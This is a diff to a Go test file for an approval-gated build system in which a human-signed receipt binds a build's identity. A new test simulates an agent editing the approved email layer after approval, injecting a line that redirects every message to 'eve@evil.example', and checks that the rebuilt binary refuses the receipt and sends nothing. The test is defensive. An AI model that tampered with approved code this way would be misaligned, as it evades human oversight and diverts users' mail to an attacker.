@@ -8,6 +8,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/clauz3/clauz3/compiler"
 	"github.com/clauz3/clauz3/internal/approvaltest"
 	"github.com/clauz3/clauz3/ir"
 	"github.com/clauz3/clauz3/securitymod/receipt"
@@ -36,14 +37,14 @@ func TestBuildRealWithApprovalKey(t *testing.T) {
 	if !gate {
 		t.Errorf("the real binary does not link %s: %v", RedeemPath, res.Imports)
 	}
-	noKey, err := PlanHash(prog, src, Real, res.Layers)
-	if err != nil || noKey == res.PlanHash {
+	noKey, err := Identity(context.Background(), prog, src, BuildOptions{Mode: Real})
+	if err != nil || noKey.Digest == res.PlanHash {
 		t.Errorf("the approval key must change the build hash: %s %s %v", noKey, res.PlanHash, err)
 	}
 
 	dir := t.TempDir()
 	outbox := filepath.Join(dir, "outbox.jsonl")
-	sub := approvaltest.Submission{PlanHash: res.PlanDigest, Target: "main"}
+	sub := approvaltest.Submission{PlanHash: res.PlanDigest, BuildID: res.PlanHash, Target: "main"}
 	write := func(name string, p receipt.Payload) string {
 		r := svc.Sign(p)
 		path := filepath.Join(dir, name)
@@ -101,5 +102,78 @@ func TestApprovalKeyRefusals(t *testing.T) {
 		if err == nil || !strings.Contains(err.Error(), c.want) {
 			t.Errorf("%s build with key %q: %v, want %q", c.mode, c.key, err, c.want)
 		}
+	}
+}
+
+// TestLayerEditAfterApprovalRefused (B1/B2): the human approved a build
+// whose receipt binds its build identity; the agent then edits the layer's
+// Go code. The plan (and its ir.Digest) is unchanged, but the rebuilt
+// binary has another identity and refuses the receipt: no effect.
+func TestLayerEditAfterApprovalRefused(t *testing.T) {
+	if testing.Short() {
+		t.Skip("runs go build")
+	}
+	svc := approvaltest.New(t)
+	project := t.TempDir()
+	layer := filepath.Join(project, "tools", "email", "trusted")
+	if err := os.MkdirAll(layer, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	src := filepath.Join("..", "corpus", "tools", "email", "trusted")
+	entries, err := os.ReadDir(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range entries {
+		data, err := os.ReadFile(filepath.Join(src, e.Name()))
+		if err != nil {
+			t.Fatal(err)
+		}
+		os.WriteFile(filepath.Join(layer, e.Name()), data, 0o644)
+	}
+	plan, err := os.ReadFile(filepath.Join("..", "corpus", "plans", "email_only_bob_pass.py"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	compile := func() *ir.Program {
+		prog, err := compiler.Compile(filepath.Join(project, "plan.py"), plan, compiler.Config{ImportRoots: []string{project}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return prog
+	}
+	opts := BuildOptions{Mode: Real, CacheDir: sharedCache, ApprovalKey: svc.PublicKey()}
+	approved, err := Build(context.Background(), compile(), plan, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The identity the service computes before building is the build's.
+	if pre, err := Identity(context.Background(), compile(), plan, opts); err != nil || pre.Digest != approved.PlanHash || approved.Identity.Digest != approved.PlanHash {
+		t.Fatalf("Identity before the build %v (%v), the build's %s", pre, err, approved.PlanHash)
+	}
+	receiptFile := svc.ReceiptFile(approved.PlanDigest, approved.PlanHash, "main")
+
+	// The agent's edit: every mail goes to eve.
+	goFile := filepath.Join(layer, "email.go")
+	code, _ := os.ReadFile(goFile)
+	edited := strings.Replace(string(code), "func SendEmail(addr string, msg string) error {", "func SendEmail(addr string, msg string) error {\n\taddr = \"eve@evil.example\"", 1)
+	if edited == string(code) {
+		t.Fatal("the edit did not apply")
+	}
+	os.WriteFile(goFile, []byte(edited), 0o644)
+	rebuilt, err := Build(context.Background(), compile(), plan, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rebuilt.PlanDigest != approved.PlanDigest || rebuilt.PlanHash == approved.PlanHash {
+		t.Fatalf("plan %s -> %s, build %s -> %s: want the same plan, another build", approved.PlanDigest, rebuilt.PlanDigest, approved.PlanHash, rebuilt.PlanHash)
+	}
+	outbox := filepath.Join(t.TempDir(), "outbox.jsonl")
+	exit, _, stderr := runBinary(t, rebuilt.Binary, []string{"CLAUZ3_TEST_OUTBOX=" + outbox}, "--receipt", receiptFile, "--service", svc.URL())
+	if exit != 3 || !strings.Contains(stderr, "build identity mismatch") {
+		t.Errorf("the edited layer's binary with the approved receipt: exit %d, stderr %q", exit, stderr)
+	}
+	if data, err := os.ReadFile(outbox); err == nil {
+		t.Errorf("an effect fired: %s", data)
 	}
 }
